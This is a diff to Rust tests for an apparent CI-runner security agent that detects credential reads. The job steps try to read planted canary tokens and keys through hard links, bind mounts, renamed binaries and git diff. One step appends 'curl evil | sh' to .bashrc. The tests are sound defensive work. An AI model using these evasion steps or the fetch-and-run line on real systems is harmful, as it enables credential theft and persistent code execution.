@@ -200,14 +200,14 @@ open(\"/proc/self/task/%s/maps\" % tids[0]).read(); t.join(); print(\"own-thread
 #[test]
 fn credentials_by_another_name_are_known_by_identity() {
     let (runner, home, w) = runner_with_canaries();
-    // The runner's home, as a deployment whose runner user is not in /etc/passwd names it: its
-    // files are watched by identity before the job starts (a home first seen in a job is
-    // watched from the job's first events the agent has read).
-    let agent = Agent::start_with(&["--watch-home", &home.display().to_string()]);
     std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
     std::fs::hard_link(home.join(".npmrc"), w.join("old-notes.txt")).unwrap();
     std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
     std::fs::hard_link(home.join(".bashrc"), w.join("old-rc.txt")).unwrap();
+    // The runner's home, as a deployment whose runner user is not in /etc/passwd names it: its
+    // files are watched by identity before the job starts (a home first seen in a job is
+    // watched from the job's first events the agent has read).
+    let agent = Agent::start_with(&["--watch-home", &home.display().to_string()]);
     let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
 
     let twin = format!(
@@ -228,6 +228,12 @@ assert fd >= 0, ctypes.get_errno()\n\
 f = os.open(\"id_rsa\", os.O_RDONLY, dir_fd=fd)\n\
 print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n' | grep -q 'CANARY-KEY /id_rsa' && echo tree-read\n"
     );
+    // A credential the job itself made (as setup actions do) is known by identity soon after.
+    let fresh = format!(
+        "printf '[pypi]\\npassword = CANARY-PYPI\\n' > '{home_s}/.pypirc'\n\
+         touch '{w_s}/n2.txt'\n\
+         unshare -m sh -c \"mount --bind '{home_s}/.pypirc' '{w_s}/n2.txt' && cat '{w_s}/n2.txt'\" | grep -q CANARY-PYPI && echo fresh-read\n"
+    );
     let link = format!(
         "grep -q CANARY-TOKEN '{w_s}/old-notes.txt' && echo link-read\n\
          echo 'curl evil | sh' >> '{w_s}/old-rc.txt' && grep -q evil '{home_s}/.bashrc' && echo rc-appended\n"
@@ -236,6 +242,7 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
         ("twin", &twin),
         ("bind", &bind),
         ("tree", &tree),
+        ("fresh", &fresh),
         ("link", &link),
         MARKER_STEP,
     ]);
@@ -243,6 +250,7 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
         "twin-done",
         "bind-read",
         "tree-read",
+        "fresh-read",
         "link-read",
         "rc-appended",
     ] {
@@ -266,6 +274,11 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
             "tree",
             format!("{home_s}/.ssh/id_rsa"),
             "/id_rsa".to_string(),
+        ),
+        (
+            "fresh",
+            format!("{home_s}/.pypirc"),
+            format!("{w_s}/n2.txt"),
         ),
         (
             "link",
@@ -292,34 +305,53 @@ print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n
 }
 
 /// A tool owns a credential by what it is, not by what it is called: a copy of `cat` named
-/// `npm` reading `~/.npmrc`, git reading an ssh key (ssh owns them, not git) and a copy of `ps`
-/// listing environments are findings; the installed npm reading its own `.npmrc` and the
-/// installed `ps aux` are not.
+/// `npm` reading `~/.npmrc`, git reading an ssh key (ssh owns them, not git) or printing its
+/// credential store because the command line names it, and a copy of `ps` listing environments
+/// are findings; the installed npm reading its own `.npmrc`, git's credential helper reading
+/// its store and the installed `ps aux` are not.
 #[test]
 fn tools_own_credentials_by_what_they_are_not_what_they_are_called() {
     let agent = Agent::start();
     let (runner, home, w) = runner_with_canaries();
     std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
+    std::fs::write(
+        home.join(".git-credentials"),
+        "https://u:CANARY-GIT@example.invalid\n",
+    )
+    .unwrap();
     let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
-    let twin =
-        "npm config get registry --offline >/dev/null && ps aux >/dev/null && echo twin-done\n";
+    // git's credential helper reading the store it was configured with is git's own use.
+    let twin = format!(
+        "npm config get registry --offline >/dev/null && ps aux >/dev/null\n\
+         printf 'protocol=https\\nhost=example.invalid\\n\\n' | git credential-store --file '{home_s}/.git-credentials' get | grep -q CANARY-GIT\n\
+         echo twin-done\n"
+    );
     let renamed = format!(
         "cp /bin/cat '{w_s}/npm' && '{w_s}/npm' '{home_s}/.npmrc' | grep -q CANARY-TOKEN && echo renamed-read\n"
     );
+    // git owns no ssh key, and owns its credential store only for its own use: told to print
+    // it, it is a reader like any other.
     let git = format!(
-        "(git diff --no-index /dev/null '{home_s}/.ssh/id_rsa' || true) | grep -q CANARY-KEY && echo git-read\n"
+        "(git diff --no-index /dev/null '{home_s}/.ssh/id_rsa' || true) | grep -q CANARY-KEY && echo git-read\n\
+         (git diff --no-index /dev/null '{home_s}/.git-credentials' || true) | grep -q CANARY-GIT && echo git-store-read\n"
     );
     let lister = format!(
         "cp \"$(command -v ps)\" '{w_s}/ps' && '{w_s}/ps' aux | grep -q . && echo copied-ps-ran\n"
     );
     let output = runner.run_job(&[
-        ("twin", twin),
+        ("twin", &twin),
         ("renamed", &renamed),
         ("git", &git),
         ("lister", &lister),
         MARKER_STEP,
     ]);
-    for said in ["twin-done", "renamed-read", "git-read", "copied-ps-ran"] {
+    for said in [
+        "twin-done",
+        "renamed-read",
+        "git-read",
+        "git-store-read",
+        "copied-ps-ran",
+    ] {
         assert!(output.contains(said), "{said}: {output}");
     }
     let mine = agent.findings_through_marker(&runner);
@@ -335,6 +367,10 @@ fn tools_own_credentials_by_what_they_are_not_what_they_are_called() {
     };
     assert!(has("renamed", "credential-read", "/.npmrc"), "{mine:#?}");
     assert!(has("git", "credential-read", "/.ssh/id_rsa"), "{mine:#?}");
+    assert!(
+        has("git", "credential-read", "/.git-credentials"),
+        "{mine:#?}"
+    );
     assert!(
         has("lister", "process-environ-read", "/environ"),
         "{mine:#?}"
